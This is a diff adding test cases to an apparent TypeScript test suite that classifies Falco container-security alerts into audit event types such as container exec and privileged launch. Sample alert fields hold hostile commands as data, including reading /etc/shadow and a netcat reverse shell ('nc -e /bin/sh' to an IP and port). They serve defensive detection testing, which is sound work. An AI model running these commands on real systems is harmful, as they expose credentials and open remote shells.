@@ -337,6 +337,18 @@ describe('record normaliser', () => {
     expect(lineOf('Terminal shell in container', { 'proc.cmdline': 'sh', 'container.privileged': false })).toMatchObject({ event_type: 'CONTAINER_EXEC', container: { privileged: false } });
     // The stock launch rule stays a CONTAINER_PRIVILEGED with the entrypoint it names, even when that is a shell on a TTY (docker run -it --privileged).
     expect(lineOf('Launch Privileged Container', { 'proc.cmdline': 'bash', 'proc.tty': 34816 })).toMatchObject({ event_type: 'CONTAINER_PRIVILEGED', container: { privileged: true }, process: { command_line: 'bash' } });
+    // Only a process started in the container is an exec (found by a probe: a file read with a TTY counted as a shell opened):
+    // by the syscall where the output names it, else by the rule's tags, else by its name.
+    expect(run('falco', { log: alert('Read sensitive file untrusted', { 'proc.cmdline': 'cat /etc/shadow', 'proc.tty': 34816, 'evt.type': 'openat' }) })).toEqual([{ kind: 'non_audit' }]);
+    expect(run('falco', { log: alert('Read sensitive file untrusted', { 'proc.cmdline': 'cat /etc/shadow', 'proc.tty': 34816 }) })).toEqual([{ kind: 'non_audit' }]);
+    expect(lineOf('Netcat Remote Code Execution in Container', { 'proc.cmdline': 'nc -e /bin/sh 10.0.0.1 4444', 'evt.type': 'execve' })).toMatchObject({ event_type: 'CONTAINER_EXEC' });
+    expect(lineOf('Drop and execute new binary in container', { 'proc.cmdline': './x', 'evt.type': 'execveat' })).toMatchObject({ event_type: 'CONTAINER_EXEC' });
+    expect(run('falco', { log: alert('Terminal shell in container', { 'proc.cmdline': 'bash', 'evt.type': 'openat' }) })).toEqual([{ kind: 'non_audit' }]);
+    const tagged = JSON.stringify({ ...JSON.parse(alert('Launch Remote File Copy Tools in Container', { 'proc.cmdline': 'scp a b' })), tags: ['maturity_stable', 'container', 'network', 'process', 'mitre_exfiltration'] });
+    expect(JSON.parse((run('falco', { log: tagged })[0] as { item: { line: string } }).item.line)).toMatchObject({ event_type: 'CONTAINER_EXEC' });
+    // container.full_id, where the output has it, is the id Docker's events give the same container.
+    expect(lineOf('Terminal shell in container', { 'proc.cmdline': 'sh', 'container.full_id': CID })).toMatchObject({ container: { id: CID } });
+    expect(lineOf('Terminal shell in container', { 'proc.cmdline': 'sh', 'container.full_id': 'not-hex' })).toMatchObject({ container: { id: CID.slice(0, 12) } });
     // A local privileged rule that names no process run in the container stays CONTAINER_PRIVILEGED.
     expect(lineOf('Privileged container started', { 'proc.cmdline': 'nginx -g daemon off;' })).toMatchObject({ event_type: 'CONTAINER_PRIVILEGED' });
     expect(run('falco', { log: alert('Read sensitive file', { 'container.id': 'host', 'proc.cmdline': 'cat' }) })).toEqual([{ kind: 'non_audit' }]);
